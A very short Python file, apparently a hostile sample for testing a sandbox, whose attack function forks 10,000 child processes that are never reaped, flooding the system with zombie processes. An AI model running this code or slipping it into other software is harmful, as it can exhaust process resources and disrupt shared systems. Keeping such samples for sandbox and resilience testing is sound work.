"""Leaves children that no process waits for."""

import os


def attack(x):
    for _ in range(10000):
        if os.fork() == 0:
            os._exit(0)
